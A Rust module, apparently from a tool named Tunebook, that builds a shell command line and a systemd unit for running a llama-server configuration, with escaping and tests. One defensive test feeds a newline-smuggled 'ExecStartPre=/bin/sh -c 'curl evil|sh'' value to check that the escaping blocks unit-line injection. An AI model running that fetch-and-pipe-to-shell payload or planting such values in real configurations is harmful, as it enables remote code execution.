//! How to run a configuration outside Tunebook: the command line to paste
//! into a shell, and a systemd unit that counts as started once the engine
//! answers its health check, within a timeout that covers the load time
//! the trial measured.

/// Port the recipes serve on (the trial ran on a free port of its own).
pub const PORT: &str = "8080";

/// A configuration ready to run.
#[derive(Debug, Clone, PartialEq)]
pub struct Recipe {
    pub shell: String,
    pub unit: String,
}

/// The command line the server's own profile gives `model` with
/// `settings`, as a trial stores it (`{"program", "args", "env",
/// "display"}`): what a worker's trial records, since a worker reports what
/// it measured, never what to run. `None` where the profile is not this
/// server's, is an external endpoint, or refuses the settings; whether
/// the binary and model files are on this server does not matter.
pub fn planned_command(
    profiles: &[engine_bridge::Profile],
    profile: &str,
    model: &str,
    settings: &engine_bridge::Settings,
) -> Option<serde_json::Value> {
    let profile = profiles.iter().find(|p| p.name == profile)?;
    if profile.kind == engine_bridge::profile::EngineKind::External {
        return None;
    }
    // The worker has the files; this server need not.
    let spec = engine_bridge::engine::plan_elsewhere(profile, model, settings, 0).ok()?;
    Some(serde_json::json!({
        "program": spec.program,
        "args": spec.args,
        "env": spec.env,
        "display": spec.display(),
    }))
}

/// The recipe for a trial's stored command (`{"program", "args", "env"}`),
/// `load_ms` its measured load time; `None` for an external endpoint.
pub fn recipe(command: &str, load_ms: Option<f64>, description: &str) -> Option<Recipe> {
    let command: serde_json::Value = serde_json::from_str(command).ok()?;
    let program = command["program"].as_str()?.to_string();
    let mut args: Vec<String> =
        command["args"].as_array()?.iter().filter_map(|a| a.as_str().map(str::to_string)).collect();
    if let Some(at) = args.iter().position(|a| a == "--port")
        && let Some(port) = args.get_mut(at + 1)
    {
        *port = PORT.into();
    }
    let env: Vec<(String, String)> = command["env"]
        .as_object()
        .map(|e| e.iter().filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string()))).collect())
        .unwrap_or_default();
    let quote = |s: &str| shlex::try_quote(s).map(|q| q.into_owned()).unwrap_or_else(|_| s.into());
    let mut shell: Vec<String> = env.iter().map(|(k, v)| format!("{k}={}", quote(v))).collect();
    shell.push(quote(&program));
    shell.extend(args.iter().map(|a| quote(a)));
    // Three times the measured load, and never under a minute.
    let timeout = load_ms.map_or(600, |ms| ((ms / 1000.0) * 3.0).ceil().max(60.0) as u64);
    let mut unit = format!(
        "[Unit]\nDescription={}\nAfter=network-online.target\nWants=network-online.target\n\n[Service]\n",
        systemd_escape(description, false)
    );
    for (k, v) in &env {
        // systemd expands `$` in command lines, never in Environment=.
        unit.push_str(&format!("Environment={}\n", systemd_word(&format!("{k}={v}"), false)));
    }
    if args.iter().any(|a| a == "--mlock" || a.ends_with("mlock")) {
        // A locked model needs the lock limit lifted, or mlock fails.
        unit.push_str("LimitMEMLOCK=infinity\n");
    }
    let exec: Vec<String> =
        std::iter::once(&program).chain(&args).map(|a| systemd_word(a, true)).collect();
    // The start ends when the engine answers healthy (503 while it loads):
    // that is what TimeoutStartSec bounds, and what units ordered after
    // this one wait for.
    unit.push_str(&format!(
        "ExecStart={}\nExecStartPost=/usr/bin/curl --silent --fail --output /dev/null \
         --retry {timeout} --retry-delay 1 --retry-all-errors --max-time 5 \
         http://127.0.0.1:{PORT}/health\nTimeoutStartSec={timeout}\nRestart=on-failure\n\
         RestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n",
        exec.join(" ")
    ));
    Some(Recipe { shell: shell.join(" "), unit })
}

/// The recipe for trial `t` of study `study`, from the command stored for
/// it; `None` for an external endpoint or a trial with no command.
pub async fn of_trial(
    db: &crate::db::Db,
    study: i64,
    t: &tunebook_views::types::TrialView,
) -> Result<Option<Recipe>, sqlx::Error> {
    let description = format!("{} {} (Tunebook study {study}, trial {})", t.profile, t.model, t.id);
    let command = crate::db::trials::extras(db, t.id).await?.and_then(|e| e.command);
    Ok(command
        .and_then(|c| recipe(&c, t.value(tunebook_views::types::Metric::LoadMs), &description)))
}

/// `%` (and, where `dollar`, `$`) as systemd reads them literally; line
/// breaks as spaces (a description is one line).
fn systemd_escape(s: &str, dollar: bool) -> String {
    let s = s.replace('%', "%%").replace(['\n', '\r'], " ");
    if dollar { s.replace('$', "$$") } else { s }
}

/// One word of a systemd command line (`dollar`: where `$` would be
/// expanded) or setting: quoted when it holds a space, a quote, a
/// backslash or a control character, which is written as a C escape
/// (`\n`), so no value can start a line of its own in the unit.
fn systemd_word(s: &str, dollar: bool) -> String {
    let s = systemd_escape(s, dollar);
    let plain = |c: char| !(c.is_whitespace() || c.is_control() || "\"'\\".contains(c));
    if !s.is_empty() && s.chars().all(plain) {
        return s;
    }
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32 & 0xff)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_workers_command_is_the_servers_profile_even_without_its_files() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p.toml");
        std::fs::write(
            &path,
            "name = \"gpu\"\nkind = \"llama-server\"\nbinary = \"/elsewhere/llama-server\"\n\
             [[models]]\nname = \"m\"\npath = \"/elsewhere/m.gguf\"\n",
        )
        .unwrap();
        let profiles = vec![engine_bridge::Profile::load(&path).unwrap()];
        let settings: engine_bridge::Settings = [("threads".into(), "4".into())].into();
        let command = planned_command(&profiles, "gpu", "m", &settings).unwrap();
        assert_eq!(command["program"], "/elsewhere/llama-server");
        let args = command["args"].to_string();
        assert!(args.contains("/elsewhere/m.gguf") && args.contains("\"-t\",\"4\""), "{args}");
        assert!(planned_command(&profiles, "other", "m", &settings).is_none());
        let bad: engine_bridge::Settings = [("threads".into(), "lots".into())].into();
        assert!(planned_command(&profiles, "gpu", "m", &bad).is_none());
    }

    #[test]
    fn a_unit_and_a_command_line_from_a_stored_command() {
        let command = serde_json::json!({
            "program": "/opt/llama.cpp/llama-server",
            "args": ["-m", "/models/my model.gguf", "--port", "41234", "-c", "8192", "-fa", "on"],
            "env": { "CUDA_VISIBLE_DEVICES": "0" },
        });
        let r = recipe(&command.to_string(), Some(95_000.0), "llama-server: 100% fast").unwrap();
        assert_eq!(
            r.shell,
            "CUDA_VISIBLE_DEVICES=0 /opt/llama.cpp/llama-server -m '/models/my model.gguf' --port 8080 -c 8192 -fa on"
        );
        assert!(r.unit.contains("Description=llama-server: 100%% fast\n"), "{}", r.unit);
        assert!(r.unit.contains("Environment=CUDA_VISIBLE_DEVICES=0\n"));
        assert!(
            r.unit.contains("ExecStart=/opt/llama.cpp/llama-server -m \"/models/my model.gguf\" --port 8080 -c 8192 -fa on\n"),
            "{}",
            r.unit
        );
        assert!(r.unit.contains("TimeoutStartSec=285\n"), "three times a 95 s load");
        // Started means healthy: the timeout bounds the load.
        assert!(r.unit.contains("ExecStartPost=/usr/bin/curl") && r.unit.contains("--retry 285"));
        assert!(r.unit.contains("http://127.0.0.1:8080/health\n"));
        assert!(!r.unit.contains("LimitMEMLOCK"), "no mlock asked");
        assert!(r.unit.contains("Restart=on-failure"));
        let quick = recipe(&command.to_string(), Some(1_500.0), "x").unwrap();
        assert!(quick.unit.contains("TimeoutStartSec=60\n"), "never under a minute");
        assert!(recipe("{\"url\": \"http://x\"}", None, "x").is_none(), "nothing to run");
    }

    #[test]
    fn dollars_are_doubled_only_where_systemd_expands_them_and_mlock_lifts_the_limit() {
        let command = serde_json::json!({
            "program": "/opt/llama-server",
            "args": ["--alias", "a$b", "--mlock"],
            "env": { "TOKEN": "x$y%z" },
        });
        let r = recipe(&command.to_string(), None, "d").unwrap();
        assert!(r.unit.contains("Environment=TOKEN=x$y%%z\n"), "{}", r.unit);
        assert!(r.unit.contains("--alias a$$b --mlock"), "{}", r.unit);
        assert!(r.unit.contains("LimitMEMLOCK=infinity\n"));
    }

    #[test]
    fn systemd_reads_the_unit_without_a_complaint() {
        let command = serde_json::json!({
            "program": "/usr/bin/true",
            "args": ["-m", "/models/my model.gguf", "--port", "1", "--alias", "a$b %c", "--mlock"],
            "env": { "GGML_X": "1$2" },
        });
        let r = recipe(&command.to_string(), Some(20_000.0), "demo: 100% \"quoted\"").unwrap();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("tunebook-check.service");
        std::fs::write(&path, &r.unit).unwrap();
        let out = std::process::Command::new("systemd-analyze")
            .args(["verify", "--man=no"])
            .arg(&path)
            .output()
            .expect("systemd-analyze (Debian's systemd) checks the unit");
        let said = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success() && said.trim().is_empty(), "{said}\n{}", r.unit);
    }

    #[test]
    fn no_value_starts_a_line_of_its_own() {
        let command = serde_json::json!({
            "program": "/opt/llama-server",
            "args": ["--alias", "x\nExecStartPre=/bin/sh -c 'curl evil|sh'"],
            "env": { "A": "1\nExecStartPre=/bin/true" },
        });
        let r = recipe(&command.to_string(), None, "d\nExecStartPre=/bin/false").unwrap();
        for line in r.unit.lines() {
            assert!(!line.starts_with("ExecStartPre"), "{}", r.unit);
        }
        // The shell line quotes every word: read back, it is the same words.
        let words = shlex::split(&r.shell).unwrap();
        assert_eq!(words[0], "A=1\nExecStartPre=/bin/true");
        assert_eq!(words[3], "x\nExecStartPre=/bin/sh -c 'curl evil|sh'");
    }
}
